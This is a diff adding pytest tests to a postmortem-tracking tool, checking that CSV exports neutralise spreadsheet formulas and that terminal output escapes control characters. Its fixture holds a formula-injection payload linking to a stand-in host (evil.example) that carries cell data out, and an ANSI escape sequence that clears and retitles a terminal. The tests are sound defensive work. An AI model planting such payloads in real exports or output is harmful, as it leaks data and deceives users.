@@ -5,15 +5,17 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import re
 import subprocess
 import sys
 from collections.abc import Callable
+from pathlib import Path
 
 import pytest
 from icalendar import Calendar
 
 from conftest import Handbook, Run
-from opsbook import actions
+from opsbook import actions, load
 
 Opsbook = Callable[..., Run]
 TODAY = "2026-10-01"
@@ -208,3 +210,90 @@ def test_errors(opsbook: Opsbook, book: Handbook) -> None:
     no_policy = opsbook("actions", cwd=book.root)
     assert no_policy.code == 2 and "policy.yml" in no_policy.err
     assert "Traceback" not in no_policy.err
+
+
+FORMULAS = """\
+---
+id: PM-2026-004
+title: "+Sum of: everything"
+date: 2026-09-04
+severity: P2
+services: ["-db"]
+status: draft
+action_items:
+  - title: '=HYPERLINK("https://evil.example/?"&A1,"Click me")'
+    owner: "@mallory"
+    due: 2026-10-20
+    status: open
+  - title: "\\tTabbed"
+    owner: "\\rcarriage"
+    due: 2026-10-21
+    status: open
+  - title: Plain - with a dash = fine
+    owner: "-"
+    due: 2026-10-22
+    status: open
+---
+Body
+"""
+
+
+def test_csv_neutralises_formulas(opsbook: Opsbook, book: Handbook, tmp_path: Path) -> None:
+    """A cell a spreadsheet would run as a formula starts with a single quote (OWASP)."""
+    book.write("postmortems/2026-09-04-formulas.md", FORMULAS)
+    # Bytes, not text: text mode would turn the quoted carriage return into a line break.
+    printed = subprocess.run(
+        [sys.executable, "-m", "opsbook", "actions", "--format", "csv", "--today", TODAY],
+        cwd=book.root,
+        capture_output=True,
+        check=True,
+    ).stdout.decode("utf-8")
+    # `opsbook generate` writes the file the site publishes, with the same function.
+    out = tmp_path / "generated"
+    generated = opsbook("generate", out, "--today", TODAY, cwd=book.root)
+    assert generated.code == 0, generated.err
+    written = (out / "action-items.csv").read_bytes().decode("utf-8")
+    for text in (printed, written):
+        rows = {r["uid"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+        first, second, third = (rows[f"PM-2026-004/{n}"] for n in (1, 2, 3))
+        assert first["title"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"Click me")'
+        assert first["owner"] == "'@mallory"
+        assert first["postmortem_title"] == "'+Sum of: everything"
+        assert first["services"] == "'-db"
+        assert second["title"] == "'\tTabbed"
+        assert second["owner"] == "'\rcarriage"
+        assert third["title"] == "Plain - with a dash = fine"  # only a leading sign counts
+        assert third["owner"] == "'-"
+        assert "\r\n" in text and "\n" not in text.replace("\r\n", "")  # RFC 4180 lines
+        for row in rows.values():
+            assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in row.values())
+    # JSON is data, not a spreadsheet: it keeps the title as written.
+    data = opsbook("actions", "--format", "json", "--today", TODAY, cwd=book.root).json()
+    assert any(r["title"].startswith("=HYPERLINK") for r in data)  # type: ignore[attr-defined]
+
+
+def test_csv_cell() -> None:
+    assert actions.csv_cell("=1+1") == "'=1+1"
+    assert actions.csv_cell("a=1") == "a=1"
+    assert actions.csv_cell("") == ""
+
+
+def test_table_shows_control_characters_escaped(opsbook: Opsbook, book: Handbook) -> None:
+    book.write(
+        "postmortems/2026-09-04-terminal.md",
+        FORMULAS.replace("\\tTabbed", "\\e]0;pwned\\a\\e[2J two\\nlines"),
+    )
+    run = opsbook("actions", "--today", TODAY, cwd=book.root)
+    assert run.code == 0, run.err
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", run.out), repr(run.out)
+    assert "\\x1b]0;pwned\\x07\\x1b[2J two\\nlines" in run.out
+    assert "\\rcarriage" in run.out
+    assert run.out.splitlines()[-1] == "6 items, 6 open, 2 overdue"
+
+
+def test_ics_dates_have_four_digit_years(book: Handbook) -> None:
+    """strftime('%Y') writes year 5 as '5' on glibc; RFC 5545 dates have four digits."""
+    handbook = load.load_handbook(book.root)
+    text = actions.to_ics(handbook.action_items, dt.date(5, 1, 2))
+    assert "DTSTAMP:00050102T000000Z" in text
+    Calendar.from_ical(text)
